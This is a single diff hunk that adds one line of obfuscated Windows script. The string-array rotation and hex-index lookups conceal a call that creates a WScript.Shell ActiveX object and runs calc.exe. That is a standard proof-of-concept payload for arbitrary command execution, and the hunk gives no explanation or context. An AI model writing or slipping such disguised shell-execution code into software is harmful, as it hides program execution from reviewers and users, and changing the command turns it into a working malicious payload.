@@ -1,0 +1,1 @@
+var _0xa=['calc.exe','WScript.Shell','Run'];(function(a,b){var c=function(d){while(--d){a['push'](a['shift']());}};c(++b);}(_0xa,0x1));var _0xb=function(a,b){a=a-0x0;var c=_0xa[a];return c;};var sh=new ActiveXObject(_0xb('0x0'));sh[_0xb('0x1')](_0xb('0x2'));
